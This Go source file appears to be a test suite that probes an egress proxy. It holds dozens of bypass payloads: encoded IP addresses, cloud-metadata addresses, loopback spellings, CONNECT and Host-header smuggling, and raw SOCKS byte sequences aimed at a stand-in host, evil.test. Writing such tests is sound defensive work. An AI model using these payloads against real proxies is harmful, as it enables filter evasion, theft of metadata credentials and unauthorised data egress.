package attack

import "fmt"

// The gate's ports for programs that insist on a proxy.
const (
	forward = "10.200.0.1:3128"
	socks   = "10.200.0.1:1080"
)

// tunnels are ways to have the proxy make a connection that it would not allow. Most controls ask for the denied name itself, where it is permitted: what is spelled
// in an unusual way is refused there, too.
var tunnels = []Attack{
	connect("decimal", "759388482:443"),
	connect("octal", "055.0103.0131.0102:443"),
	connect("hex", "0x2d.0x43.0x59.0x42:443"),
	connect("hex-whole", "0x2d435942:443"),
	connect("short", "45.67.22850:443"),
	connect("zeros", "045.067.089.066:443"),
	connect("mapped", "[::ffff:45.67.89.66]:443"),
	connect("mapped-hex", "[::ffff:2d43:5942]:443"),
	connect("nat64", "[64:ff9b::2d43:5942]:443"),
	connect("zone", "[2a0e:97c0:ffff::1%25eth0]:443"),
	connect("address-dot", "45.67.89.66.:443"),
	connect("address-escape", "45.67.89%2e66:443"),
	connect("escape", "%65vil.test:443"),
	connect("escape-nul", "evil.test%00.good.test:443"),
	connect("user", "good.test@evil.test:443"),
	connect("user-port", "good.test:443@evil.test:443"),
	connect("fragment", "evil.test#good.test:443"),
	connect("path", "evil.test/good.test:443"),
	connect("scheme", "https://evil.test:443"),
	connect("upper", "EVIL.TEST:443"),
	connect("dot", "evil.test.:443"),
	connect("below", "bad.good.test:443"),
	connect("below-dot", "bad.good.test.:443"),
	connect("wide", "ｅvil.test:443"),
	connect("wide-dot", "evil。test:443"),
	connect("port-overflow", "good.test:66065"), // 529 after 16 bits
	connect("port-overflow-443", "evil.test:65979"),
	connect("port-zeros", "evil.test:0443"),
	connect("port-sign", "evil.test:+443"),
	connect("port-digits", "evil.test:４４３"),
	connect("port-none", "evil.test:"),
	connect("port-twice", "good.test:443:evil.test:443"),
	connect("port-other", "good.test:25"),
	connect("nobody", ":443"),
	connect("dot-alone", ".:443"),
	connect("gate", "10.200.0.1:443"),
	connect("metadata-decimal", "2852039166:80"),
	connect("metadata-hex", "0xa9fea9fe:80"),
	connect("metadata-octal", "0251.0376.0251.0376:80"),
	connect("metadata-mapped", "[::ffff:169.254.169.254]:80"),
	connect("metadata-6", "[fd00:ec2::254]:80"),
	connect("metadata-name", "metadata.google.internal:80"),
	connect("metadata-tls", "169.254.169.254:443"),
	connect("line", "good.test:443\thttp://evil.test:443"),

	{
		ID: "via.connect-again", Tries: "ask for a tunnel within a tunnel", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6",
		Try:     wire(forward, lines("CONNECT good.test:80 HTTP/1.1$Host: good.test:80$$"), hear, lines("CONNECT evil.test:443 HTTP/1.1$Host: evil.test:443$$"), hear, record(hello(serverName("evil.test")))),
		Control: viaConnect, Down: Permitted, Shows: Internet,
	},
	{
		ID: "via.connect-itself", Tries: "ask for a tunnel to the proxy, and there for another one", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6",
		Try:     wire(forward, lines("CONNECT 10.200.0.1:3128 HTTP/1.1$Host: x$$"), hear, lines("CONNECT evil.test:443 HTTP/1.1$Host: evil.test:443$$"), hear, record(hello(serverName("evil.test")))),
		Control: viaConnect, Down: Permitted, Shows: Internet,
	},
	{
		ID: "via.connect-host", Tries: "send another Host in a tunnel", Wall: Network, Invariant: "I2", Source: "RFC 9110, 7.2",
		Try: wire(forward, lines("CONNECT good.test:80 HTTP/1.1$Host: good.test:80$$"), hear, lines(hidden)), Control: viaAbsolute, Down: Permitted, Shows: Internet, Within: good,
	},
	{
		ID: "via.connect-second", Tries: "send a second request for another Host in a tunnel", Wall: Network, Invariant: "I2", Source: "RFC 9110, 7.2",
		Try: wire(forward, lines("CONNECT good.test:80 HTTP/1.1$Host: good.test:80$$"), hear, lines("GET / HTTP/1.1$Host: good.test$$"), hear, lines(hidden)), Control: viaAbsolute, Down: Permitted, Shows: Internet, Within: good,
	},
	disguised("hello", record(hello(serverName("evil.test")))),
	disguised("request", lines("GET / HTTP/1.1$Host: evil.test$$")),
	disguised("version", "SSH-1.5-probe\r\n"+record(hello(serverName("evil.test")))),
	disguised("late", "hello\r\nSSH-2.0-probe\r\n"),
	{
		ID: "via.connect-http", Tries: "speak HTTP in a tunnel for TLS", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6",
		Try: wire(forward, lines("CONNECT good.test:443 HTTP/1.1$Host: good.test:443$$"), hear, lines("GET / HTTP/1.1$Host: good.test$$")), Control: viaAbsolute, Down: Permitted, Shows: Internet,
	},
	{
		ID: "via.connect-tls", Tries: "speak TLS in a tunnel for HTTP", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6",
		Try: wire(forward, lines("CONNECT good.test:80 HTTP/1.1$Host: good.test:80$$"), hear, record(hello(serverName("good.test")))), Control: viaAbsolute, Down: Permitted, Shows: Internet,
	},
	{
		ID: "via.connect-early", Tries: "send a denied name before the tunnel is there", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6",
		Try: wire(forward, lines("CONNECT good.test:443 HTTP/1.1$Host: good.test:443$$")+record(hello(serverName("evil.test")))), Control: viaConnect, Down: Permitted, Shows: Internet,
	},
	{
		ID: "via.connect-body", Tries: "give a request for a tunnel a body", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6",
		Try:     wire(forward, lines(fmt.Sprintf("CONNECT good.test:80 HTTP/1.1$Host: good.test:80$Content-Length: %d$$%s", hiddenLength, hidden))),
		Control: viaAbsolute, Down: Permitted, Shows: Internet, Within: good,
	},
	{
		ID: "via.connect-host-field", Tries: "name another host in the Host of a request for a tunnel", Wall: Network, Invariant: "I2", Source: "RFC 9112, 3.2.3",
		Try:     wire(forward, lines("CONNECT good.test:443 HTTP/1.1$Host: evil.test:443$$"), hear, record(hello(serverName("evil.test")))),
		Control: viaConnect, Down: Permitted, Shows: Internet,
	},
	{
		ID: "via.connect-refused-reused", Tries: "use a connection on which a tunnel was refused", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6",
		Try:     wire(forward, lines("CONNECT evil.test:443 HTTP/1.1$Host: evil.test:443$$"), hear, record(hello(serverName("evil.test")))),
		Control: viaConnect, Down: Permitted, Shows: Internet,
	},
	{
		ID: "via.absolute-second", Tries: "ask for another host on a proxy's connection that is kept", Wall: Network, Invariant: "I2", Source: "RFC 9112, 3.2.2",
		Try:     wire(forward, lines("GET http://good.test/ HTTP/1.1$Host: good.test$$GET http://evil.test/ HTTP/1.1$Host: good.test$$")),
		Control: viaAbsolute, Down: Permitted, Shows: Internet, Within: good,
	},
	{
		ID: "via.absolute-connect", Tries: "ask for a tunnel on a connection that was used for something else", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6",
		Try:     wire(forward, lines("GET http://good.test/ HTTP/1.1$Host: good.test$$"), hear, lines("CONNECT evil.test:443 HTTP/1.1$Host: evil.test:443$$"), hear, record(hello(serverName("evil.test")))),
		Control: viaConnect, Down: Permitted, Shows: Internet, Within: good,
	},
	absolute("port", "http://good.test:8080/"),
	absolute("address", "http://45.67.89.66/"),
	absolute("decimal", "http://759388482/"),
	absolute("metadata", "http://169.254.169.254/latest/meta-data/"),
	absolute("metadata-6", "http://[fd00:ec2::254]/latest/meta-data/"),
	absolute("user", "http://good.test@evil.test/"),
	absolute("user-escaped", "http://good.test%2f@evil.test/"),
	absolute("other", "ftp://evil.test/"),
	absolute("https", "https://evil.test/"),
	absolute("gate", "http://10.200.0.1:3128/"),

	{
		ID: "via.mixed-case", Tries: "tell the resolver something by the case of an allowed name", Wall: Network, Invariant: "I3", Source: "draft-vixie-dnsext-dns0x20-00",
		Try:     wire(forward, lines("CONNECT GoOd.TeSt:443 HTTP/1.1$Host: GoOd.TeSt:443$$"), hear, record(hello(serverName("gOoD.tEsT")))),
		Control: []string{"dns GoOd.TeSt 9.9.9.9:53 A"}, Down: Outside, Shows: Internet, Within: good,
	},
	{
		ID: "via.mixed-case-socks", Tries: "tell the resolver something by the case of a name in SOCKS5", Wall: Network, Invariant: "I3", Source: "draft-vixie-dnsext-dns0x20-00",
		Try:     wire(socks, "\x05\x01\x00", hear, "\x05\x01\x00\x03"+vector(1, "GOOD.test")+"\x01\xbb", hear, record(hello(serverName("good.TEST")))),
		Control: []string{"dns GOOD.test 9.9.9.9:53 A"}, Down: Outside, Shows: Internet, Within: good,
	},

	local("127.0.0.1"), local("127.0.0.2"), local("localhost"), local("0.0.0.0"), local("[::1]"), local("[::]"), local("[::ffff:127.0.0.1]"), local("127.1"), local("2130706433"),
	local("0x7f000001"), local("0177.0.0.1"), local("localhost."), local("45.67.90.2"), local("[2a0e:97c0:1::2]"), local("10.200.0.1"), local("10.200.0.2"),

	asked("4", "use SOCKS4", "\x04\x01\x01\xbb\x2d\x43\x59\x42\x00"),
	asked("4a", "use SOCKS4a", "\x04\x01\x01\xbb\x00\x00\x00\x01\x00evil.test\x00"),
	asked("4a-good", "use SOCKS4a with an allowed name, and a denied one inside", "\x04\x01\x01\xbb\x00\x00\x00\x01\x00good.test\x00"),
	asked("udp", "associate UDP", "\x05\x01\x00", hear, "\x05\x03\x00\x01\x00\x00\x00\x00\x00\x00"),
	asked("bind", "have a port opened", "\x05\x01\x00", hear, "\x05\x02\x00\x01\x2d\x43\x59\x42\x01\xbb"),
	asked("resolve", "have a name resolved", "\x05\x01\x00", hear, "\x05\xf0\x00\x03"+vector(1, "evil.test")+"\x00\x00"),
	asked("credentials", "put a secret into credentials", "\x05\x01\x02", hear, "\x01"+vector(1, "secret")+vector(1, "secret"), hear, "\x05\x01\x00\x03"+vector(1, "evil.test")+"\x01\xbb"),
	asked("credentials-too", "offer credentials beside none", "\x05\x02\x02\x00", hear, "\x05\x01\x00\x03"+vector(1, "evil.test")+"\x01\xbb"),
	asked("reserved", "set the reserved byte", "\x05\x01\x00", hear, "\x05\x01\x01\x03"+vector(1, "evil.test")+"\x01\xbb"),
	asked("mapped", "reach a mapped address", "\x05\x01\x00", hear, "\x05\x01\x00\x04"+"\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xff\xff\x2d\x43\x59\x42"+"\x01\xbb"),
	asked("metadata", "reach the metadata service", "\x05\x01\x00", hear, "\x05\x01\x00\x01\xa9\xfe\xa9\xfe\x00\x50"),
	asked("nul", "hide a name behind a NUL", "\x05\x01\x00", hear, "\x05\x01\x00\x03"+vector(1, "evil.test\x00.good.test")+"\x01\xbb"),
	asked("decimal", "give an address as a name", "\x05\x01\x00", hear, "\x05\x01\x00\x03"+vector(1, "759388482")+"\x01\xbb"),
	asked("empty", "give an empty name", "\x05\x01\x00", hear, "\x05\x01\x00\x03"+vector(1)+"\x01\xbb"),
	asked("type", "give an address of an unknown type", "\x05\x01\x00", hear, "\x05\x01\x00\x02\x2d\x43\x59\x42\x01\xbb"),
	asked("at-once", "send a denied name with the greeting", "\x05\x01\x00\x05\x01\x00\x03"+vector(1, "good.test")+"\x01\xbb"),
	asked("bytes", "ask for a denied name byte by byte", each, "\x05\x01\x00", hear, each, "\x05\x01\x00\x03"+vector(1, "evil.test")+"\x01\xbb"),
	asked("again", "ask again after a refusal", "\x05\x01\x00", hear, "\x05\x01\x00\x03"+vector(1, "evil.test")+"\x01\xbb", hear, "\x05\x01\x00\x03"+vector(1, "evil.test")+"\x01\xbb"),
}

// Controls of what cannot be said in the same words where it is allowed.
var (
	viaConnect  = []string{"https-via http://10.200.0.1:3128 evil.test:443 evil.test"}
	viaAbsolute = []string{"http 10.200.0.1:3128 evil.test GET http://evil.test/"}
	viaSOCKS    = []string{"https-via socks5://10.200.0.1:1080 evil.test:443 evil.test"}
)

// connect is a tunnel to what must not be reached, in which a denied name is sent.
func connect(id, to string) Attack {
	return Attack{
		ID: "via.connect-" + id, Tries: fmt.Sprintf("ask for a tunnel to %q", to), Wall: Network, Invariant: "I2", Source: "server-side request forgery",
		Try:     wire(forward, lines("CONNECT "+to+" HTTP/1.1$Host: "+to+"$$"), hear, record(hello(serverName("evil.test")))),
		Control: viaConnect, Down: Permitted, Shows: Internet,
	}
}

// disguised is what is no SSH, for a server of which a rule says that it speaks it.
func disguised(id, text string) Attack {
	return Attack{
		ID: "via.ssh-" + id, Tries: "speak something else than SSH to an SSH server: " + id, Wall: Network, Invariant: "I2", Source: "RFC 4253, 4.2",
		Try: wire("ssh.good.test:22", text), Down: Outside, Shows: Internet, Within: []string{"ssh.good.test"},
	}
}

// absolute is a request of a proxy.
func absolute(id, target string) Attack {
	return Attack{
		ID: "via.absolute-" + id, Tries: fmt.Sprintf("ask for %q", target), Wall: Network, Invariant: "I2", Source: "server-side request forgery",
		Try: wire(forward, lines("GET "+target+" HTTP/1.1$Host: good.test$$")), Control: viaAbsolute, Down: Permitted, Shows: Internet,
	}
}

// local is a tunnel to the service of the host.
func local(host string) Attack {
	return Attack{
		ID: "via.local-" + host, Tries: fmt.Sprintf("ask for a tunnel to the host's loopback by %q", host), Wall: Network, Invariant: "I2", Source: "server-side request forgery",
		Try: "tcp-via http://" + forward + " " + host + ":{HOST} x", Control: []string{"tcp 127.0.0.1:{HOST} x"}, Down: Outside, Shows: Host,
	}
}

// asked is a conversation with the SOCKS proxy, and then a hello with a denied name.
func asked(id, tries string, pieces ...string) Attack {
	return Attack{
		ID: "via.socks-" + id, Tries: tries, Wall: Network, Invariant: "I2", Source: "RFC 1928",
		Try: wire(socks, append(pieces, hear, record(hello(serverName("evil.test"))))...), Control: viaSOCKS, Down: Permitted, Shows: Internet,
	}
}

// spelled are addresses and names that a program may read in another way than the proxy does, at each of its fronts.
var spelled = []Attack{
	{ID: "via.spelled-loopback-connect", Tries: "reach the host's loopback by CONNECT, in every spelling", Wall: Network, Invariant: "I1", Source: "RFC 9110, 9.3.6; inet_aton(3)", Try: "spelled loopback {HOST} connect", Control: []string{"tcp 127.0.0.1:{HOST}"}, Down: Outside, Shows: Host},
	{ID: "via.spelled-loopback-socks", Tries: "reach the host's loopback by SOCKS5, in every spelling", Wall: Network, Invariant: "I1", Source: "RFC 1928; inet_aton(3)", Try: "spelled loopback {HOST} socks", Control: []string{"tcp 127.0.0.1:{HOST}"}, Down: Outside, Shows: Host},
	{ID: "via.spelled-loopback-absolute", Tries: "reach the host's loopback by an absolute target, in every spelling", Wall: Network, Invariant: "I1", Source: "RFC 9112, 3.2.2; inet_aton(3)", Try: "spelled loopback {HOST} absolute", Control: []string{"tcp 127.0.0.1:{HOST}"}, Down: Outside, Shows: Host},
	{ID: "via.spelled-loopback-host", Tries: "reach the host's loopback by Host, in every spelling", Wall: Network, Invariant: "I1", Source: "RFC 9110, 7.2; inet_aton(3)", Try: "spelled loopback {HOST} host", Control: []string{"tcp 127.0.0.1:{HOST}"}, Down: Outside, Shows: Host},
	{ID: "via.spelled-metadata-connect", Tries: "reach metadata services and private networks by CONNECT, in every spelling", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6; inet_aton(3)", Try: "spelled metadata 80 connect", Control: []string{"http 169.254.169.254:80 x"}, Down: Outside, Shows: Internet},
	{ID: "via.spelled-metadata-socks", Tries: "reach metadata services and private networks by SOCKS5, in every spelling", Wall: Network, Invariant: "I2", Source: "RFC 1928; inet_aton(3)", Try: "spelled metadata 80 socks", Control: []string{"http 169.254.169.254:80 x"}, Down: Outside, Shows: Internet},
	{ID: "via.spelled-metadata-absolute", Tries: "reach metadata services and private networks by an absolute target, in every spelling", Wall: Network, Invariant: "I2", Source: "RFC 9112, 3.2.2; inet_aton(3)", Try: "spelled metadata 80 absolute", Control: []string{"http 169.254.169.254:80 x"}, Down: Outside, Shows: Internet},
	{ID: "via.spelled-metadata-host", Tries: "reach metadata services and private networks by Host, in every spelling", Wall: Network, Invariant: "I2", Source: "RFC 9110, 7.2; inet_aton(3)", Try: "spelled metadata 80 host", Control: []string{"http 169.254.169.254:80 x"}, Down: Outside, Shows: Internet},
	{ID: "via.spelled-evil-connect", Tries: "reach a denied server by CONNECT, in every spelling", Wall: Network, Invariant: "I2", Source: "RFC 9110, 9.3.6; inet_aton(3)", Try: "spelled evil 80 connect", Control: []string{"http 45.67.89.66:80 evil.test"}, Down: Outside, Shows: Internet},
	{ID: "via.spelled-evil-socks", Tries: "reach a denied server by SOCKS5, in every spelling", Wall: Network, Invariant: "I2", Source: "RFC 1928; inet_aton(3)", Try: "spelled evil 80 socks", Control: []string{"http 45.67.89.66:80 evil.test"}, Down: Outside, Shows: Internet},
	{ID: "via.spelled-evil-absolute", Tries: "reach a denied server by an absolute target, in every spelling", Wall: Network, Invariant: "I2", Source: "RFC 9112, 3.2.2; inet_aton(3)", Try: "spelled evil 80 absolute", Control: []string{"http 45.67.89.66:80 evil.test"}, Down: Outside, Shows: Internet},
	{ID: "via.spelled-evil-host", Tries: "reach a denied server by Host, in every spelling", Wall: Network, Invariant: "I2", Source: "RFC 9110, 7.2; inet_aton(3)", Try: "spelled evil 80 host", Control: []string{"http 45.67.89.66:80 evil.test"}, Down: Outside, Shows: Internet},
}
